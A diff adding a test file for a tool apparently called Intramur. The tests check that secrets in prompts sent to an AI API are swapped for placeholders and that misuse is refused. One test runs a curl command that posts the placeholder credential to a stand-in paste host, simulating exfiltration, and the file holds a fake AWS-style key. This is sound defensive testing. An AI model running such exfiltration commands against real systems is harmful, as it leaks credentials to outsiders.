@@ -1,0 +1,67 @@
+// A secret in a prompt with the configuration as it comes: the model outside gets a placeholder, the caller gets the secret back, and the
+// placeholder is worth nothing anywhere else.
+import fs from 'node:fs';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Entry } from '../../src/core/index.ts';
+import { configFor, createRig, type Rig } from './rig.ts';
+
+const secret = `AKIA${'QYLPMN5HHHFPZAM2'}`;
+const form = /intramur_secret_[a-z2-7]{26}/;
+let rig: Rig;
+
+beforeAll(async () => {
+  rig = await createRig({ script: ({ text }) => ({ text: `it is ${form.exec(text)?.[0] ?? 'nothing'}` }) });
+  rig.configure(`${configFor(rig.upstream, 'public')}packs: [baseline, perimeter, research-production]\n`);
+});
+afterAll(() => rig.close());
+
+async function run(script: string, ...options: string[]): Promise<{ stdout: string; entries: Entry[] }> {
+  const { stdout } = await rig.intramur(['run', ...options, '--', 'sh', '-c', script]);
+  const exported = await rig.intramur(['ledger', 'export', '--format', 'jsonl']);
+  return {
+    stdout,
+    entries: exported.stdout
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line) as Entry),
+  };
+}
+
+const call = (text: string, more: object = {}) =>
+  `curl -sS -m 20 https://api.openai.com/v1/chat/completions -H 'content-type: application/json' -d '${JSON.stringify({ model: 'x', messages: [{ role: 'user', content: text }], ...more })}'`;
+
+describe('a session with a secret in its prompt', () => {
+  it.each([false, true])('goes on: the model gets a placeholder, the program the secret (streamed: %s)', async (stream) => {
+    const before = rig.upstream.received.length;
+    const { stdout } = await run(call(`my key is ${secret}`, { stream }));
+    const texts = stream
+      ? [...stdout.matchAll(/^data: (\{.*\})$/gm)].map(
+          ([, data = '']) => (JSON.parse(data) as { choices: { delta: { content?: string } }[] }).choices[0]?.delta.content ?? '',
+        )
+      : [(JSON.parse(stdout) as { choices: [{ message: { content: string } }] }).choices[0].message.content];
+    expect(texts.join('')).toBe(`it is ${secret}`);
+    const sent = rig.upstream.received.slice(before).map(({ body }) => body.toString());
+    expect([sent.length, sent.join().includes(secret), form.test(sent.join())]).toEqual([1, false, true]);
+  });
+
+  it('cannot take the placeholder anywhere else: refused, recorded with its finding', async () => {
+    const placeholder = form.exec(rig.upstream.received.map(({ body }) => body.toString()).join())?.[0] ?? '';
+    const { stdout, entries } = await run(`curl -sS -m 20 https://paste.example/ -d 'x=${placeholder}'`, '--allow', 'paste.example');
+    expect(stdout).toMatch(/^Intramur refused: .*CREDENTIAL_MISUSED/);
+    const entry = entries.findLast(({ host, decision }) => host === 'paste.example' && decision !== undefined);
+    expect(entry).toMatchObject({ decision: 'deny' });
+  });
+
+  it('a repository may ask for more: with block in the workspace the call is refused', async () => {
+    const file = path.join(rig.workspace, 'intramur.yaml');
+    fs.writeFileSync(file, 'inspect: { secrets: block }\n');
+    try {
+      const before = rig.upstream.received.length;
+      expect((await run(call(`my key is ${secret}`))).stdout).toContain('Intramur refused: the request holds a secret');
+      expect(rig.upstream.received.length).toBe(before);
+    } finally {
+      fs.rmSync(file);
+    }
+  });
+});
